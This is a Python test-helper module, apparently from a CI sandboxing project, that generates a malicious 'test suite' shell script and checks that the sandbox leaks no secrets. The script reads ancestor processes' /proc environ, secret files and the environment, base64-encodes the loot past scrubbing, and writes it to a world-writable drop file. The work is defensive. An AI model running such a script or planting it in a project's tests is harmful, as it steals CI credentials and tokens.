"""A pushed commit's "test suite" that hunts for secrets, and the checks that it found none.

:func:`hunting_suite` is the attack of issue 14 (item 2) as a POSIX sh script: it reads the
environ of every ancestor process (``/proc/$PPID/environ`` and up), the secret files whose paths
it was told, its own environment, and lists the state directory; it prints what it found
base64-encoded (past any scrubbing of literal strings) and writes it to a file outside its tree.
:func:`leaks` looks for each secret in a text as it is, and inside every base64 run in it.
"""

from __future__ import annotations

import base64
import binascii
import os
import re
import shutil
import tempfile
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest

LOOT_LINE = re.compile(r"attack: loot ([A-Za-z0-9+/=]+)")
_BASE64_RUN = re.compile(r"[A-Za-z0-9+/]{12,}={0,2}")


def hunting_suite(*, secret_files: Iterable[Path], state_dir: Path, exfil: Path, fail: bool = True) -> str:
    files = " ".join(f'"{path}"' for path in secret_files)
    return f"""#!/bin/sh
echo "attack: running as uid $(id -u)"
loot=$(mktemp 2>/dev/null || echo ./loot)
pid=$$
while [ -n "$pid" ] && [ "$pid" -gt 1 ]; do
  parent=$(awk '{{print $4}}' "/proc/$pid/stat" 2>/dev/null)
  [ -n "$parent" ] || break
  {{ echo "environ of $parent:"; tr '\\000' '\\n' < "/proc/$parent/environ"; }} >> "$loot" 2>/dev/null
  pid=$parent
done
for f in {files}; do {{ echo "file $f:"; cat "$f"; }} >> "$loot" 2>/dev/null; done
{{ echo "own environment:"; env; }} >> "$loot"
{{ echo "state directory:"; ls -R "{state_dir}"; }} >> "$loot" 2>/dev/null
encoded=$(base64 -w0 < "$loot")
echo "attack: loot $encoded"
printf '%s' "$encoded" > "{exfil}" 2>/dev/null && echo "attack: wrote {exfil}"
echo "attack: done"
{"exit 1" if fail else "exit 0"}
"""


def decoded_loot(text: str) -> str:
    """What the suite printed as its loot (the last loot line in ``text``), decoded."""
    found = LOOT_LINE.findall(text)
    assert found, f"the hunting suite did not run: {text[-2000:]!r}"
    return base64.b64decode(found[-1]).decode("utf-8", "replace")


def leaks(text: str, secrets: Iterable[str]) -> list[str]:
    """The secrets found in ``text``, literally or inside a base64 run (at any alignment)."""
    candidates = [text]
    for run in _BASE64_RUN.findall(text):
        for start in range(4):
            chunk = run[start:]
            chunk = chunk[:len(chunk) - len(chunk) % 4]
            try:
                candidates.append(base64.b64decode(chunk).decode("utf-8", "replace"))
            except (binascii.Error, ValueError):
                continue
    return [secret for secret in secrets if any(secret in candidate for candidate in candidates)]


@pytest.fixture
def exfil() -> Iterator[Path]:
    """A directory anyone may write, where the hunting suite drops its loot when it can."""
    directory = Path(tempfile.mkdtemp(prefix="railguard-exfil-"))
    os.chmod(directory, 0o777)
    try:
        yield directory / "loot.b64"
    finally:
        shutil.rmtree(directory, ignore_errors=True)
